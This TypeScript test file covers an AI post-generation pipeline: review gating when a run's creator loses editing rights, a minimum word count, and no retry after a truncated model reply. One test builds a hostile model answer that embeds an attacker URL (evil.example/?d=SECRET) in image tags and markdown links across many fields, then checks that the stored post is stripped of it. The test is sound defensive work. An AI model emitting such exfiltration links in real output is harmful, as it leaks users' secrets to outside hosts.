import { env } from "cloudflare:workers";
import { beforeEach, expect, it } from "vitest";
import type { Post } from "../../../schema/api/posts";
import { api, makeTenant, type Tenant } from "../fixtures/tenant";
import { call, placeRun, readRun, work } from "./generation";
import { draft, scriptedModel, useModel } from "./scripted-model";

let tenant: Tenant;
beforeEach(async () => {
  tenant = await makeTenant();
  await useModel(tenant);
});

const post = async (id: string | null) =>
  (await api<Post>(`${tenant.path}/posts/${id}`, { token: tenant.token })).body.data;
const resultOf = async (runId: string) => {
  const step = (await readRun(tenant, runId)).steps.find(({ stage }) => stage === "place");
  return (
    await api<{ result: unknown }>(`${tenant.path}/runs/${runId}/steps/${step?.id}`, { token: tenant.token })
  ).body.data.result;
};
const finishes = [
  { finish: "publish" as const },
  { finish: "schedule" as const, localTime: "2099-03-01T09:30", timezone: "Europe/Berlin" },
];
const options = { images: false };
const setMaker = (runId: string, userId: string) =>
  env.DB.prepare("UPDATE runs SET created_by = ?2 WHERE id = ?1").bind(runId, userId).run();

it.each(finishes)(
  "sends a draft to review instead of going on, once its maker is gone: $finish",
  async (how) => {
    const { editor } = tenant.people;
    const { id } = await placeRun(tenant, { ...options, ...how });
    await setMaker(id, editor.id);
    const member = `${tenant.path}/members/${editor.id}`;
    expect((await api(member, { method: "DELETE", token: tenant.token })).status).toBe(200);
    await work(tenant, { ai: scriptedModel().ai });
    const run = await readRun(tenant, id);
    expect(run).toMatchObject({ state: "completed", review: "awaiting" });
    expect(await post(run.postId)).toMatchObject({ status: "DRAFT", scheduledAt: null });
    expect(await resultOf(id)).toMatchObject({ placed: "review", reason: "maker_may_not_publish" });
  },
);

it.each(finishes)("sends it to review once its maker is a viewer: $finish", async (how) => {
  const { editor } = tenant.people;
  const { id } = await placeRun(tenant, { ...options, ...how });
  await setMaker(id, editor.id);
  const member = `${tenant.path}/members/${editor.id}`;
  await api(member, { method: "PATCH", body: { role: "viewer" }, token: tenant.token });
  await work(tenant, { ai: scriptedModel().ai });
  expect(await readRun(tenant, id)).toMatchObject({ review: "awaiting" });
});

it("publishes what an editor who still is one started", async () => {
  const { id } = await placeRun(tenant, { ...options, finish: "publish" });
  await setMaker(id, tenant.people.editor.id);
  await work(tenant, { ai: scriptedModel().ai });
  expect(await post((await readRun(tenant, id)).postId)).toMatchObject({ status: "PUBLISHED" });
});

it.each(finishes)("sends a draft of fewer than 150 words to review: $finish", async (how) => {
  const { id } = await placeRun(tenant, { ...options, ...how });
  const short = { ...draft, content: `## Water\n\n${"Water it seldom. ".repeat(45)}` };
  await work(tenant, { ai: scriptedModel(undefined, short).ai });
  const run = await readRun(tenant, id);
  expect(run).toMatchObject({ state: "completed", review: "awaiting" });
  expect(await post(run.postId)).toMatchObject({ status: "DRAFT", scheduledAt: null, wordCount: 136 });
  expect(await resultOf(id)).toMatchObject({ placed: "review", reason: "gate_failed" });
  const queue = await api<{ items: unknown[] }>(`${tenant.path}/runs/review`, { token: tenant.token });
  expect(queue.body.data.items).toMatchObject([{ run: { id }, heldBack: "gate_failed", imageProblem: null }]);
});

it("stores nothing of a model's answer that would leak data", async () => {
  const evil = "https://evil.example/?d=SECRET";
  const told = `<img src="${evil}"> ![x](${evil}) [here](${evil}) ${evil} `;
  const hostile = {
    ...draft,
    title: `Cactus ${told}`,
    excerpt: told,
    content: `${draft.content}\n\n${told}\n\n![a][b]\n\n[b]: ${evil}\n\nSee [the guide](#light).`,
    seo: { title: told, description: told, keywords: [told, "cactus"] },
    faq: [{ question: `Why ${told}?`, answer: `So ${told}` }],
    categories: [told],
    image: { brief: told, alt: told },
  };
  const { id } = await placeRun(tenant, { ...options, finish: "review" });
  await work(tenant, {
    ai: scriptedModel(undefined, hostile).ai,
  });
  const run = await readRun(tenant, id);
  const stored = await post(run.postId);
  expect(JSON.stringify(stored)).not.toMatch(/SECRET|<img|!\[/);
  expect(stored.content).toContain("[the guide](#light)");
  expect(stored.content).toContain("Water it seldom");
  for (const step of run.steps) {
    const kept = await api(`${tenant.path}/runs/${id}/steps/${step.id}`, { token: tenant.token });
    expect(JSON.stringify(kept.body)).not.toMatch(/SECRET/);
  }
});

it("does not repeat a request that got no usable answer", async () => {
  const { ai, asked } = scriptedModel(({ kind }) =>
    kind === "outline" ? { choices: [{ message: { content: "{" }, finish_reason: "length" }] } : undefined,
  );
  const { id } = await placeRun(tenant, options);
  await work(tenant, { ai });
  expect(await readRun(tenant, id)).toMatchObject({
    state: "failed",
    attempts: 1,
    error: { code: "cut_off" },
  });
  expect(asked).toEqual(["outline"]);
  expect((await call(tenant, `/${id}/retry`)).status).toBe(200);
});
